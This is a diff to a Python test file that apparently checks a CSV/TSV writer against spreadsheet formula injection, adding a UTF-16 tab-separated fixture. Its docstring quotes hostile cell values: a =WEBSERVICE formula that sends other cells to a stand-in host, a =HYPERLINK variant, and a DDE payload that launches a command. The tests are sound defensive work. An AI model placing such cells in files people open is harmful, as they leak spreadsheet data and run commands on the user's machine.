@@ -5,8 +5,8 @@ write asked) created findings.csv whose cells were copied from rows anyone may h
 ``=WEBSERVICE("https://x.example/?"&A2)`` and ``=HYPERLINK(...)`` send the sheet's other
 cells away when the user opens the file in Excel or LibreOffice, ``=cmd|'/c calc'!A0`` is DDE.
 The same cell quoted, after blanks, led by ``+ - @``, split by the semicolon of a European
-locale or by the separator a ``sep=`` line declares, and in a .tsv. Numbers, a lone dash and a
-cell marked as text (``'=1+1``) are still created."""
+locale or by the separator a ``sep=`` line declares, in UTF-16, and in a .tsv. Numbers, a
+lone dash and a cell marked as text (``'=1+1``) are still created."""
 
 from __future__ import annotations
 
@@ -27,6 +27,7 @@ FORMULAS = {
     "e.csv": b"name,total\nbob,-2+3\n",
     "f.tsv": b"name\ttotal\nbob\t=1+1\n",
     "g.csv": b"\xef\xbb\xbf=1+1\n",
+    "h.csv": "name\ttotal\nbob\t=1+1\n".encode("utf-16"),  # Excel's "Unicode text"
 }
 DATA = b"name,total,delta,note\nbob,12,-5,-\nann,+1.5e3,-12%,'=1+1\n"
 
